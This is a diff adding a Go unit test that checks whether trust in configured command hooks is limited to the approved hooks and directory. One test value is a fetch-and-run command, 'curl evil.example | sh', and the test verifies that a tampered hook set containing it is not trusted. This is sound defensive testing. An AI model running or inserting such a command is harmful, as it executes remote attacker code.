@@ -0,0 +1,27 @@
+package config
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestTrustHooks(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv(EnvTrustHooks, "")
+	dir, other := t.TempDir(), t.TempDir()
+	hooks := map[string]string{"closed": "echo closed", "*": "true"}
+
+	assert.False(t, HooksTrusted(dir, hooks))
+	require.NoError(t, TrustHooks(dir, hooks))
+	require.NoError(t, TrustHooks(dir, hooks)) // again is a no-op
+	assert.True(t, HooksTrusted(dir, map[string]string{"*": "true", "closed": "echo closed"}))
+
+	// Trust covers these hooks in this directory only
+	assert.False(t, HooksTrusted(other, hooks))
+	assert.False(t, HooksTrusted(dir, map[string]string{"closed": "curl evil.example | sh", "*": "true"}))
+
+	t.Setenv(EnvTrustHooks, "true")
+	assert.True(t, HooksTrusted(other, hooks))
+}